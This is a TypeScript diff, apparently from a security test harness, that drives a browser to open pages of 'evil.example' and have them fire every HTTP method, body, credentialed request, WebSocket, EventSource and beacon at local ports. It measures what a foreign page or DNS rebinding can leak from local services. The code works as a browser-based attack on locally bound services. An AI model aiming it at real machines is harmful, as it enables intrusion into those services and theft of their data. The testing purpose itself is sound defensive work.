@@ -40,6 +40,10 @@ const nameOf = (address: string): string => (address === LOOPBACK ? NAME : `${ad
 const PAGE = "/page-of-a-stranger.html";
 /** A port that waits for something else than HTTP says nothing. In ms. */
 const SILENCE_MS = 3_000;
+/** One that speaks HTTP answers, however much else it is asked. In ms. */
+const ANSWER_MS = 20_000;
+/** So many pages ask at the same time. */
+const PAGES = 4;
 
 /**
  * Opens pages of `evil.example`, which points to this machine, in a browser, and has them ask for everything on every
@@ -63,33 +67,41 @@ export async function attackByPages(targets: readonly AttackedPort[], bodies: re
     timeout: PATIENCE_MS,
   });
   try {
-    const context = await browser.newContext();
+    // Asked for a password, a page shows a wrong one and is refused; without any it would wait for a person.
+    const context = await browser.newContext({ httpCredentials: { username: "stranger", password: NAME } });
     context.setDefaultTimeout(PATIENCE_MS);
-    // The stranger's own document, at any port of the name: it was loaded before the name was pointed here.
-    await context.route(`**${PAGE}`, (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html>" }));
     const leaks: Leak[] = [];
     let tried = 0;
-    const from = async (origin: string, by: Leak["by"], asked: readonly AttackedPort[]): Promise<void> => {
+    // A page of its own for each port: browsers hold up the WebSockets of a page of which many have failed.
+    const attack = async ({ address = LOOPBACK, port, paths }: AttackedPort, by: Order["by"]): Promise<void> => {
+      const origin = by === "foreign page" ? `http://${NAME}` : `http://${nameOf(address)}:${port}`;
       const page = await context.newPage();
+      // The stranger's own document, at any port of the name: it was loaded before the name was pointed here. As long
+      // as there is such a route, every preflight is answered with yes: what it would have kept is sent.
+      await page.route(`**${PAGE}`, (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html>" }));
       await page.goto(origin + PAGE);
       const found = await page.evaluate(askForEverything, {
-        asked: asked.map((target) => ({
-          ...target,
-          address: target.address ?? LOOPBACK,
-          at: by === "foreign name" ? origin : undefined,
-        })),
+        address,
+        port,
+        paths,
+        at: by === "foreign name" ? origin : undefined,
         by,
         methods: METHODS,
         bodies,
-        silenceMs: SILENCE_MS,
+        limitMs: paths.length > 0 ? ANSWER_MS : SILENCE_MS,
       });
       leaks.push(...found.leaks);
       tried += found.tried;
       await page.close();
     };
-    await from(`http://${NAME}`, "foreign page", targets);
-    for (const target of targets)
-      await from(`http://${nameOf(target.address ?? LOOPBACK)}:${target.port}`, "foreign name", [target]);
+    const left = (["foreign page", "foreign name"] as const).flatMap((by) =>
+      targets.map((target) => () => attack(target, by)),
+    );
+    await Promise.all(
+      Array.from({ length: PAGES }, async () => {
+        for (let next = left.shift(); next !== undefined; next = left.shift()) await next();
+      }),
+    );
     return { tried, leaks };
   } finally {
     await browser.close();
@@ -125,12 +137,13 @@ export async function openServer(): Promise<{
   };
 }
 
-interface Order {
-  readonly asked: readonly (Required<AttackedPort> & { readonly at: string | undefined })[];
-  readonly by: Leak["by"];
+interface Order extends Required<AttackedPort> {
+  /** The page's own origin, if that is what it asks. */
+  readonly at: string | undefined;
+  readonly by: Exclude<Leak["by"], "socket">;
   readonly methods: readonly string[];
   readonly bodies: readonly string[];
-  readonly silenceMs: number;
+  readonly limitMs: number;
 }
 
 /** What a page has and Node doesn't, as far as it is used here. */
@@ -142,19 +155,16 @@ interface PageGlobals {
 }
 
 /** Runs in the page, so it uses nothing from outside. */
-async function askForEverything({ asked, by, methods, bodies, silenceMs }: Order): Promise<Attack> {
+async function askForEverything(order: Order): Promise<Attack> {
+  const { address, port, paths, at, by, methods, bodies, limitMs } = order;
   const { WebSocket, EventSource, Image, navigator } = globalThis as unknown as PageGlobals;
   const leaks: Leak[] = [];
   let tried = 0;
-  const one = async (
-    where: { address: string; port: number },
-    url: string,
-    path: string,
-    init: RequestInit,
-  ): Promise<void> => {
+  const where = { address, port };
+  const one = async (url: string, path: string, init: RequestInit): Promise<void> => {
     tried++;
     try {
-      const response = await fetch(url, { ...init, signal: AbortSignal.timeout(silenceMs), redirect: "manual" });
+      const response = await fetch(url, { ...init, signal: AbortSignal.timeout(limitMs), redirect: "manual" });
       const { status, type } = response;
       // A page sees nothing of what is opaque, and everything of its own origin: there a refusal is all that may come,
       // or nothing, as MinIO says of its health to any name.
@@ -166,12 +176,7 @@ async function askForEverything({ asked, by, methods, bodies, silenceMs }: Order
       // Refused, kept from the page, or silent.
     }
   };
-  const opened = (
-    where: { address: string; port: number },
-    path: string,
-    name: string,
-    open: () => EventTarget & { close(): void },
-  ): Promise<void> =>
+  const opened = (path: string, name: string, open: () => EventTarget & { close(): void }): Promise<void> =>
     new Promise((resolve) => {
       tried++;
       const stream = open();
@@ -182,58 +187,53 @@ async function askForEverything({ asked, by, methods, bodies, silenceMs }: Order
       };
       stream.addEventListener("open", end(true));
       stream.addEventListener("error", end(false));
-      setTimeout(end(false), silenceMs);
+      setTimeout(end(false), limitMs);
     });
-  await Promise.all(
-    asked.map(async ({ address, port, paths, at }) => {
-      const where = { address, port };
-      for (const path of ["/", ...paths]) {
-        const origin = at ?? `http://${address}:${port}`;
-        const url = origin + path;
-        const jobs: Promise<void>[] = [];
-        for (const method of methods) {
-          const hasBody = method !== "GET" && method !== "HEAD";
-          jobs.push(one(where, url, path, { method, ...(hasBody && { body: bodies[0]! }) }));
-          if (at !== undefined || ["GET", "HEAD", "POST"].includes(method))
-            jobs.push(
-              one(where, url, path, {
-                method,
-                mode: at === undefined ? "no-cors" : "same-origin",
-                credentials: "include",
-                ...(hasBody && { body: bodies.join("\n") }),
-              }),
-            );
-          if (!hasBody) continue;
-          for (const [at, body] of bodies.entries())
-            jobs.push(
-              one(where, url, path, {
-                method,
-                headers: {
-                  "content-type": at % 2 === 0 ? "application/json" : "application/octet-stream",
-                  "x-dashboard-action": "1",
-                },
-                body,
-              }),
-            );
-        }
-        await Promise.all(jobs);
-        if (at !== undefined) continue;
-        navigator.sendBeacon(url, bodies[0]);
-        await Promise.all([
-          opened(where, path, "WebSocket", () => new WebSocket(url.replace("http", "ws"))),
-          opened(where, path, "EventSource", () => new EventSource(url)),
-          new Promise<void>((resolve) => {
-            tried++;
-            const image = new Image();
-            const end = (): void => resolve();
-            image.onload = end;
-            image.onerror = end;
-            setTimeout(end, silenceMs);
-            image.src = url;
+  for (const path of ["/", ...paths]) {
+    const origin = at ?? `http://${address}:${port}`;
+    const url = origin + path;
+    const jobs: Promise<void>[] = [];
+    for (const method of methods) {
+      const hasBody = method !== "GET" && method !== "HEAD";
+      jobs.push(one(url, path, { method, ...(hasBody && { body: bodies[0]! }) }));
+      if (at !== undefined || ["GET", "HEAD", "POST"].includes(method))
+        jobs.push(
+          one(url, path, {
+            method,
+            mode: at === undefined ? "no-cors" : "same-origin",
+            credentials: "include",
+            ...(hasBody && { body: bodies.join("\n") }),
           }),
-        ]);
-      }
-    }),
-  );
+        );
+      if (!hasBody) continue;
+      for (const [at, body] of bodies.entries())
+        jobs.push(
+          one(url, path, {
+            method,
+            headers: {
+              "content-type": at % 2 === 0 ? "application/json" : "application/octet-stream",
+              "x-dashboard-action": "1",
+            },
+            body,
+          }),
+        );
+    }
+    await Promise.all(jobs);
+    if (at !== undefined) continue;
+    navigator.sendBeacon(url, bodies[0]);
+    await Promise.all([
+      opened(path, "WebSocket", () => new WebSocket(url.replace("http", "ws"))),
+      opened(path, "EventSource", () => new EventSource(url)),
+      new Promise<void>((resolve) => {
+        tried++;
+        const image = new Image();
+        const end = (): void => resolve();
+        image.onload = end;
+        image.onerror = end;
+        setTimeout(end, limitMs);
+        image.src = url;
+      }),
+    ]);
+  }
   return { tried, leaks };
 }
